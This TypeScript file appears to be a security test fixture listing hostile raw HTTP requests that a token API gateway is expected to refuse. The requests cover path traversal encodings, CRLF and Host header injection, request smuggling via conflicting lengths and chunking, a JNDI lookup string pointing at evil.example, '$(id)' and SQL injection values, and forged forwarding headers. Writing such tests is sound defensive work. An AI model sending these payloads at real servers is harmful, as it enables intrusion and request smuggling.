// Requests as bytes, for a gateway that is reached as GATEWAY and a good bearer's token CREDENTIAL.

export interface HostileRequest {
  name: string;
  text: string;
  /** What may come back. "closed": nothing, and the connection ends. */
  answers: readonly (number | "closed")[];
}

const ID = "aaaaaaaa-2222-4333-8444-555555555555";
const LINE = "\r\n";
const AUTH = "Authorization: Bearer CREDENTIAL";
const CLOSE = "Connection: close";

const request = (line: string, headers: readonly string[], body = "") =>
  [line, ...headers, "", body].join(LINE);
/** As a good client sends it, but for its target. */
const get = (target: string, ...headers: string[]) =>
  request(`GET ${target} HTTP/1.1`, ["Host: GATEWAY", AUTH, CLOSE, ...headers]);
const remove = (target: string, ...headers: string[]) =>
  request(`DELETE ${target} HTTP/1.1`, ["Host: GATEWAY", AUTH, CLOSE, ...headers]);

const UPWARDS = [
  "..",
  "%2e%2e",
  ".%2e",
  "%2E.",
  "%252e%252e",
  "..;",
  "..%00",
  "%c0%ae%c0%ae",
  "..%ef%bc%8f",
  "．．",
];
const SEPARATORS = ["/", "%2f", "%2F", "%252f", "\\", "%5c", "%255c", "//", "/./", "%ef%bc%8f"];

const traversal = UPWARDS.flatMap((up) =>
  SEPARATORS.flatMap((separator) => [
    `/api/v0/tokens/${up}${separator}databases`,
    `/api/v0/tokens/${ID}${separator}${up}${separator}databases`,
  ]),
);

const ids = [
  "%2f%2fevil.example",
  "//evil.example",
  "/evil.example",
  "http:%2f%2fevil.example",
  "a%0d%0aHost:%20evil.example",
  "a%0ab",
  "a%0db",
  "%00",
  "a%00",
  "%5c%5cevil.example",
  "\\\\evil.example",
  `${ID}%20`,
  `${ID}%09`,
  `${ID}%0d%0aX-Injected:%201`,
  `${ID}%3fx=1`,
  `${ID}%23x`,
  `${ID}%26x=1`,
  `${ID};x=1`,
  `${ID}%u002f`,
  `%7b${ID}%7d`,
  "%e2%80%ae",
  "%ed%a0%80",
  "%ff",
  "%",
  "%g0",
  "%2",
  "~root",
  "*",
  "$(id)",
  "'%20OR%201=1--",
  "${jndi:ldap:%2f%2fevil.example}",
  "%25%30%30",
  "0",
  "-1",
  "null",
  "undefined",
  "__proto__",
  "constructor",
  "x".repeat(513),
];

const targets = [
  "http://evil.example/api/v0/tokens",
  "http://GATEWAY/api/v0/tokens",
  "https://GATEWAY/api/v0/tokens",
  "//GATEWAY/api/v0/tokens",
  "//evil.example/api/v0/tokens",
  "///api/v0/tokens",
  "/api//v0/tokens",
  "/api/./v0/tokens",
  "/api/v0/./tokens",
  "/api/v0/x/../tokens",
  "\\api\\v0\\tokens",
  "api/v0/tokens",
  "*",
  "?/api/v0/tokens",
  "#/api/v0/tokens",
  "@evil.example/api/v0/tokens",
  ":80/api/v0/tokens",
  "/%61pi%2fv0%2ftokens",
  `/api/v0/tokens?${"x".repeat(8200)}`,
  `/${"../".repeat(2000)}api/v0/tokens`,
];

const chunked = "Transfer-Encoding: chunked";
const post = (headers: readonly string[], body: string) =>
  request(
    "POST /api/v0/tokens HTTP/1.1",
    ["Host: GATEWAY", AUTH, "Content-Type: application/json", ...headers],
    body,
  );
/** What would be a second request, if the first one ended where its sender wants. */
const SMUGGLED = request(`DELETE /api/v0/tokens/${ID} HTTP/1.1`, ["Host: GATEWAY", AUTH, CLOSE]);
const JSON_BODY = '{"description":"smuggled"}';
const chunk = (text: string, size = text.length.toString(16)) =>
  `${size}${LINE}${text}${LINE}0${LINE}${LINE}`;

const smuggling: readonly [string, string][] = [
  ["length and chunks", post(["Content-Length: 5", chunked], `0${LINE}${LINE}${SMUGGLED}`)],
  ["chunks and length", post([chunked, "Content-Length: 5"], `0${LINE}${LINE}${SMUGGLED}`)],
  ["two lengths", post(["Content-Length: 0", `Content-Length: ${SMUGGLED.length}`], SMUGGLED)],
  ["two lengths in one", post([`Content-Length: 0, ${SMUGGLED.length}`], SMUGGLED)],
  ["a length with a sign", post(["Content-Length: +26"], JSON_BODY)],
  ["a length below nothing", post(["Content-Length: -1"], SMUGGLED)],
  ["a length in hexadecimal", post(["Content-Length: 0x1a"], JSON_BODY)],
  ["a length that overflows", post(["Content-Length: 18446744073709551642"], JSON_BODY)],
  ["a length with a space in it", post(["Content-Length: 2 6"], JSON_BODY)],
  ["a space before the colon", post([`Content-Length : ${JSON_BODY.length}`], JSON_BODY)],
  ["chunks with a space before the colon", post(["Transfer-Encoding : chunked"], chunk(JSON_BODY))],
  ["another coding", post(["Transfer-Encoding: xchunked"], chunk(JSON_BODY))],
  ["chunked and then another", post(["Transfer-Encoding: chunked, identity"], chunk(JSON_BODY))],
  ["chunked in two headers", post([chunked, "Transfer-Encoding: x"], chunk(JSON_BODY))],
  ["chunked behind a control character", post(["Transfer-Encoding: \u000bchunked"], chunk(JSON_BODY))],
  ["a chunk that is longer than it says", post([chunked], chunk(JSON_BODY, "1"))],
  ["a chunk of a size that is none", post([chunked], chunk(JSON_BODY, "zz"))],
  ["a chunk of a size with a sign", post([chunked], chunk(JSON_BODY, "-1"))],
  ["a chunk of a size that overflows", post([chunked], chunk(JSON_BODY, "fffffffffffffffff"))],
  ["chunks with bare line feeds", post([chunked], `1a\n${JSON_BODY}\n0\n\n`)],
  ["a folded header", get("/api/v0/tokens", "X-Folded: a", " Host: evil.example")],
  ["a folded length", post(["Content-Length:", ` ${JSON_BODY.length}`], JSON_BODY)],
  ["a folded coding", post(["Transfer-Encoding:", " chunked"], chunk(JSON_BODY))],
  ["bare line feeds", get("/api/v0/tokens").replaceAll(LINE, "\n")],
  ["bare carriage returns", `${get("/api/v0/tokens").replaceAll(LINE, "\r")}\r\n\r\n`],
  ["a header without a name", get("/api/v0/tokens", ": x")],
  ["a header without a colon", get("/api/v0/tokens", "X-Nothing")],
  ["a NUL in a header", get("/api/v0/tokens", "X-Nul: a\u0000b")],
  ["a control character in a header's name", get("/api/v0/tokens", "X-\u0001: a")],
  [
    "a line that begins with a space",
    request("GET /api/v0/tokens HTTP/1.1", [" Host: GATEWAY", AUTH, CLOSE]),
  ],
  ["a tab in the first line", request("GET\t/api/v0/tokens HTTP/1.1", ["Host: GATEWAY", AUTH, CLOSE])],
  ["a space in the target", request("GET /api/v0/tokens x HTTP/1.1", ["Host: GATEWAY", AUTH, CLOSE])],
  ["a later version", request("GET /api/v0/tokens HTTP/3.0", ["Host: GATEWAY", AUTH, CLOSE])],
  ["no version", `GET /api/v0/tokens${LINE}${LINE}`],
  ["HTTP/2 as known beforehand", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"],
  [
    "TLS where none is",
    "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003".padEnd(300, "\u0000"),
  ],
];

const hosts: readonly [string, string[]][] = [
  ["no Host", []],
  ["an empty Host", ["Host:"]],
  ["another Host", ["Host: evil.example"]],
  ["two Hosts, ours first", ["Host: GATEWAY", "Host: evil.example"]],
  ["two Hosts, ours last", ["Host: evil.example", "Host: GATEWAY"]],
  ["two Hosts in one", ["Host: GATEWAY, evil.example"]],
  ["a Host with somebody's name", ["Host: evil@GATEWAY"]],
  ["a Host with a path", ["Host: GATEWAY/x"]],
  ["a Host with a dot behind it", ["Host: localhost.:1"]],
  ["a Host with another port", ["Host: localhost:1"]],
  ["a Host with ours in front", ["Host: GATEWAY.evil.example"]],
  ["a Host with a space in it", ["Host: GATEWAY evil.example"]],
  ["a Host in brackets", ["Host: [GATEWAY]"]],
  ["a Host with a tab", ["Host: GATEWAY\tevil.example"]],
  ["another Host that a proxy is said to have seen", ["Host: evil.example", "X-Forwarded-Host: GATEWAY"]],
  ["another Host in Forwarded", ["Host: evil.example", "Forwarded: host=GATEWAY"]],
];

const methods = [
  "TRACE",
  "TRACK",
  "PUT",
  "OPTIONS",
  "PROPFIND",
  "PURGE",
  "LINK",
  "delete",
  "Delete",
  "GETX",
  "DELETE\u0000",
  "DÉLETE",
  "X".repeat(9000),
];

const large: readonly [string, string][] = [
  ["a huge header", get("/api/v0/tokens", `X-Huge: ${"x".repeat(20_000)}`)],
  ["a huge name of a header", get("/api/v0/tokens", `X-${"h".repeat(20_000)}: x`)],
  ["very many headers", get("/api/v0/tokens", ...Array.from({ length: 3000 }, (_, at) => `X-${at}: ${at}`))],
  ["a huge cookie", get("/api/v0/tokens", `Cookie: ${"a=b; ".repeat(4000)}`)],
];

const named = (
  all: readonly (readonly [string, string])[],
  ...answers: HostileRequest["answers"][number][]
) => all.map(([name, text]) => ({ name, text, answers }));

/** Each is to be refused. */
export const hostileRequests: readonly HostileRequest[] = [
  ...traversal.map((target) => ({ name: target, text: get(target), answers: [400, 404] })),
  ...ids.flatMap((id) => [
    { name: `GET of ${id}`.slice(0, 99), text: get(`/api/v0/tokens/${id}`), answers: [400, 404] },
    { name: `DELETE of ${id}`.slice(0, 99), text: remove(`/api/v0/tokens/${id}`), answers: [400, 404] },
    {
      name: `suspension of ${id}`.slice(0, 99),
      text: get(`/api/v0/tokens/${id}/suspension`),
      answers: [400, 404],
    },
  ]),
  ...targets.map((target) => ({ name: target.slice(0, 99), text: get(target), answers: [400, 404, 414] })),
  ...named(smuggling, 400, "closed"),
  ...hosts.map(([name, lines]) => ({
    name,
    text: request("GET /api/v0/tokens HTTP/1.1", [...lines, AUTH, CLOSE]),
    answers: [400, 421],
  })),
  ...methods.map((method) => ({
    name: `the method ${method.slice(0, 20)}`,
    text: request(`${method} /api/v0/tokens HTTP/1.1`, ["Host: GATEWAY", AUTH, CLOSE]),
    answers: [400, 405, 431],
  })),
  {
    name: "a tunnel to somewhere else",
    text: request("CONNECT evil.example:443 HTTP/1.1", ["Host: GATEWAY", AUTH]),
    answers: [400, 405, "closed"],
  },
  ...named(large, 431),
];

const upgrade = (protocol: string, ...headers: string[]) =>
  request("GET /api/v0/tokens HTTP/1.1", [
    "Host: GATEWAY",
    AUTH,
    "Connection: Upgrade, close",
    `Upgrade: ${protocol}`,
    ...headers,
  ]);

/** Each is one GET of the tokens with more around it, and must be nothing else to the cluster behind. */
export const dressedRequests: readonly (readonly [string, string])[] = [
  ["nothing", get("/api/v0/tokens")],
  ["two spaces in the first line", request("GET  /api/v0/tokens HTTP/1.1", ["Host: GATEWAY", AUTH, CLOSE])],
  ["a protocol of the same form", request("GET /api/v0/tokens RTSP/1.0", ["Host: GATEWAY", AUTH, CLOSE])],
  [
    "another method in a header",
    get("/api/v0/tokens", "X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE"),
  ],
  ["another method in the query", get("/api/v0/tokens?_method=DELETE")],
  [
    "another path",
    get("/api/v0/tokens", "X-Original-URL: /api/v0/databases", "X-Rewrite-URL: /api/v0/databases"),
  ],
  ["another host", get("/api/v0/tokens", "X-Forwarded-Host: evil.example", "X-Host: evil.example")],
  [
    "a forwarded address",
    get("/api/v0/tokens", "X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1", "Via: 1.1 x"),
  ],
  [
    "a forwarded scheme",
    get("/api/v0/tokens", "X-Forwarded-Proto: https", "X-Forwarded-Port: 443", "X-Forwarded-Prefix: /x"),
  ],
  ["Forwarded", get("/api/v0/tokens", "Forwarded: for=127.0.0.1;host=evil.example;proto=https")],
  ["cookies", get("/api/v0/tokens", "Cookie: tokenward_1=x; session=stolen")],
  ["a second credential", get("/api/v0/tokens", "Proxy-Authorization: Basic eDp4", "X-Api-Key: x")],
  [
    "headers of this hop",
    get(
      "/api/v0/tokens",
      "Keep-Alive: timeout=999",
      "TE: trailers",
      "Trailer: X-Late",
      "Proxy-Connection: keep-alive",
    ),
  ],
  [
    "headers that Connection names",
    request("GET /api/v0/tokens HTTP/1.1", [
      "Host: GATEWAY",
      AUTH,
      "Connection: close, X-Secret, Content-Length",
      "X-Secret: x",
    ]),
  ],
  [
    "where it came from",
    get(
      "/api/v0/tokens",
      "Referer: https://evil.example/",
      "Origin: https://evil.example",
      "Sec-Fetch-Site: cross-site",
    ),
  ],
  [
    "a range and a cache",
    get("/api/v0/tokens", "Range: bytes=0-0", "If-Range: x", "Cache-Control: only-if-cached", "Pragma: x"),
  ],
  ["an expectation", get("/api/v0/tokens", "Expect: 100-continue")],
  [
    "somebody's own headers",
    get(
      "/api/v0/tokens",
      "X-Influxdb-Version: x",
      "User-Agent: evil",
      "Accept: text/html",
      "Accept-Language: x",
    ),
  ],
  [
    "a body",
    request("GET /api/v0/tokens HTTP/1.1", ["Host: GATEWAY", AUTH, CLOSE, "Content-Length: 26"], JSON_BODY),
  ],
  [
    "a websocket",
    upgrade("websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="),
  ],
  ["HTTP/2 over clear text", upgrade("h2c", "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA")],
];
